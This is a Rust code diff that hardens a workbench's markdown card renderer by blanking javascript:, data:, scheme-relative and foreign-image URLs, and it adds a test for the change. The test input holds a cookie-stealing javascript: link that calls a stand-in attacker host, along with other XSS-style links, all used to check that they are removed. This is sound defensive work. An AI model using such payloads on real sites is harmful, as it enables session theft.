@@ -78,14 +78,37 @@ async fn files(state: &Arc<AppState>, manifest: &str) -> Result<(Digest, String,
 
 /// Markdown to HTML, raw HTML in it shown as text.
 fn markdown(text: &str) -> String {
-    use pulldown_cmark::{Event, Options, Parser, html};
+    use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, html};
     let parser = Parser::new_ext(text, Options::ENABLE_TABLES).map(|event| match event {
         Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+        Event::Start(Tag::Link { link_type, dest_url, title, id }) if !allowed_url(&dest_url, false) => {
+            Event::Start(Tag::Link { link_type, dest_url: CowStr::Borrowed(""), title, id })
+        }
+        Event::Start(Tag::Image { link_type, dest_url, title, id }) if !allowed_url(&dest_url, true) => {
+            Event::Start(Tag::Image { link_type, dest_url: CowStr::Borrowed(""), title, id })
+        }
         other => other,
     });
     let mut out = String::new();
     html::push_html(&mut out, parser);
     out
+}
+
+/// Where a link or image of a card may lead: a relative URL (the card's own plots and
+/// files), and, for a link, `http` or `https`. The card is built from a run's records, whose
+/// strings an author chooses: a `javascript:` or `data:` link would run in the workbench's
+/// origin, which serves the reviewers' verdict forms, and an image from another host would
+/// load as the page opens. Anything else is rendered with an empty address.
+fn allowed_url(url: &str, image: bool) -> bool {
+    // Another host without a scheme (`//host/x`), or a backslash a browser reads as `/`.
+    if url.starts_with("//") || url.starts_with("\\\\") || url.starts_with("/\\") {
+        return false;
+    }
+    let scheme = url.find([':', '/', '?', '#']).filter(|&i| url.as_bytes()[i] == b':');
+    match scheme {
+        None => true,
+        Some(i) => !image && matches!(url[..i].to_ascii_lowercase().as_str(), "http" | "https"),
+    }
 }
 
 /// `/runs/<run manifest>/card/`: the card, rendered.
@@ -139,5 +162,23 @@ mod tests {
         let html = markdown("# Card\n\n<script>alert(1)</script>\n\ntext <b onclick=x>bold</b>\n");
         assert!(!html.contains("<script>") && !html.contains("<b onclick"), "{html}");
         assert!(html.contains("&lt;script&gt;") && html.contains("<h1>Card</h1>"), "{html}");
+    }
+
+    /// A link a record's string writes into the card (a review of the day's fixes put one in
+    /// a source's `retrieved`) cannot run script in the workbench or load another host's
+    /// image; the card's own plots and web links stay.
+    #[test]
+    fn links_lead_only_to_the_card_or_the_web() {
+        let html = markdown(
+            "[a](javascript:fetch('//evil.example/?'+document.cookie)) [b](JaVaScRiPt:x) [c](data:text/html,x) \
+             [d](//evil.example/x) ![e](https://evil.example/pixel.png) ![f](plots/funnel.svg) \
+             [g](https://spdx.org/licenses/MIT.html) [h](#manifests)\n",
+        );
+        for gone in ["javascript", "JaVaScRiPt", "data:", "evil.example"] {
+            assert!(!html.contains(gone), "{gone}: {html}");
+        }
+        for kept in ["src=\"plots/funnel.svg\"", "href=\"https://spdx.org/licenses/MIT.html\"", "href=\"#manifests\""] {
+            assert!(html.contains(kept), "{kept}: {html}");
+        }
     }
 }
